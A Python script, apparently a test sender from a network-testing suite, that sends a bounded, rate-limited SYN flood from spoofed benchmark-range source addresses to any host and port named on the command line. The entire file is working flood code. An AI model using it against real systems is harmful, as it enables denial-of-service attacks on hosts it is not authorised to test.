#!/usr/bin/python3
"""Sends a bounded SYN flood: COUNT SYNs to DST:PORT from spoofed sources in 198.18.0.100-.250 (no host
answers for them, so the handshakes never complete), over a raw IPv4 socket, at most RATE per second.

  syn_flood.py DST PORT COUNT [RATE]
"""
import random
import socket
import struct
import sys
import time

from inject_garbage import csum  # one RFC 1071 checksum for the test senders


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(0, 65535), 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main(argv):
    dst, port, count = argv[1], int(argv[2]), int(argv[3])
    rate = float(argv[4]) if len(argv) > 4 else 20000.0
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(42)
    start = time.time()
    for i in range(count):
        src = f"198.18.0.{rng.randint(100, 250)}"
        s.sendto(syn(src, dst, rng.randint(1024, 65535), port, rng.getrandbits(32)), (dst, 0))
        if i % 100 == 0:
            ahead = i / rate - (time.time() - start)
            if ahead > 0:
                time.sleep(ahead)
    print(f'{{"sent": {count}, "seconds": {time.time() - start:.2f}}}')
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
